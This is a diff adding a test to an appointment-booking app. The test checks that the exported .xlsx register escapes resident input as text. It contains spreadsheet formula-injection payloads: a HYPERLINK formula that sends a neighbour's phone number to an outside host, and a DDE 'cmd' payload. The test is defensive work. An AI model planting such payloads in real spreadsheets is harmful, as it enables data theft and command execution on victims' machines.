@@ -276,6 +276,19 @@ def test_the_paper_ticket_says_appointment_and_nothing_personal(tmp_path: Path, 
 
 # ---------------------------------------------------------------- the 登记表
 
+def test_the_register_writes_what_residents_typed_as_text_never_a_formula(hall_app: HallApp) -> None:
+    """Issue 14 (4): a name like ``=HYPERLINK(…&D4)`` would carry a neighbour's phone away when clicked."""
+    name = '=HYPERLINK("http://e.cn/"&D4)'
+    book(hall_app, name=name, notes="@SUM(1+1)*cmd|' /C calc'!A0")
+    book(hall_app, slot="10:00", phone="13900000002", name="+1+2", notes="-3+4")
+    sheet = load_workbook(io.BytesIO(hall_app.staff("guide").get(
+        f"/api/appointments/register.xlsx?date={TUESDAY}").data)).active
+    rows = list(sheet.iter_rows(min_row=4))
+    assert [cell.data_type for row in rows for cell in row if cell.value is not None] == ["s"] * 24
+    assert [(row[2].value, row[11].value) for row in rows] == [
+        ("'" + name, "'@SUM(1+1)*cmd|' /C calc'!A0"), ("'+1+2", "'-3+4")]
+
+
 def test_the_register_exports_as_xlsx_with_the_days_rows(hall_app: HallApp) -> None:
     first = book(hall_app, slot="10:00")
     second = book(hall_app, phone="02112345678", channel="letter", name="李四", id_last6=None, notes="")
